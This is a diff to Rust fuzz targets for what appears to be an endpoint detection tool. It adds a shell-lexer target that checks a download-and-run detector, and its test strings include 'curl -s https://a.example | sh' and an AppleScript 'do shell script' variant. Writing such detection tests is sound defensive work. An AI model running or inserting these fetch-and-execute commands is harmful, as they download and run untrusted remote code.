@@ -7,6 +7,7 @@ use std::time::Duration;
 
 use serde_json::{Map, Value as Json};
 
+use crate::alert::runs_download;
 use crate::config::{Config, ExceptionFile};
 use crate::detect::Rule;
 use crate::eql::{Lineages, compile, compile_condition};
@@ -14,6 +15,7 @@ use crate::event::{Categories, Decoded, Event, Fields, Line, Machine, ProcessRef
 use crate::event::{document, ecs, field, surrogates};
 use crate::report::{self, html};
 use crate::script::{self, Capture, Redactor};
+use crate::shell::lex;
 use crate::source::endpoint_security::connect as connect_event;
 use crate::source::ntstat::{Client, ContinuousClock};
 use crate::source::recording::{Next, Recording};
@@ -23,7 +25,7 @@ use crate::source::{eslogger, libproc};
 pub type Target = (&'static str, fn(&[u8]));
 
 /// The parsers.
-pub const TARGETS: [Target; 18] = [
+pub const TARGETS: [Target; 19] = [
     ("alert_document", alert_document),
     ("config_file", config_file),
     ("connect_event", connect_event),
@@ -40,6 +42,7 @@ pub const TARGETS: [Target; 18] = [
     ("rule_file", rule_file),
     ("script_arguments", script_arguments),
     ("script_file", script_file),
+    ("shell", shell),
     ("socket_info", socket_info),
     ("surrogates", surrogates),
 ];
@@ -211,6 +214,24 @@ fn redaction(bytes: &[u8]) {
     let Json::Object(mut document) = document else { return };
     REDACTOR.apply(&mut document);
     assert_eq!(document["process"]["args"].as_array().map(Vec::len), Some(args.len()));
+}
+
+/// Tokens are parts of their text, in its order. No text hides the command before it or is more than the argument that
+/// it is quoted as, and none is run as a comment.
+fn shell(bytes: &[u8]) {
+    let text = text(bytes);
+    let mut end = 0;
+    for token in lex(&text) {
+        assert!(end <= token.start && text.get(token.start..token.end).is_some(), "{token:?} of {text:?}");
+        end = token.end;
+    }
+    for command in ["curl -s https://a.example | sh", "do shell script \"curl -s https://a.example | sh\""] {
+        assert!(runs_download(&format!("{command}\n{text}")), "{command:?} before {text:?}");
+    }
+    let argument = text.replace(['\'', '\\'], "");
+    assert!(runs_download(&format!("curl -s 'https://{argument}' | sh")), "{argument:?}");
+    let line = text.split(['\n', '\r']).next().unwrap_or_default();
+    assert!(!runs_download(&format!("# {line}")), "{line:?}");
 }
 
 /// A query that compiles gives an answer to any event.
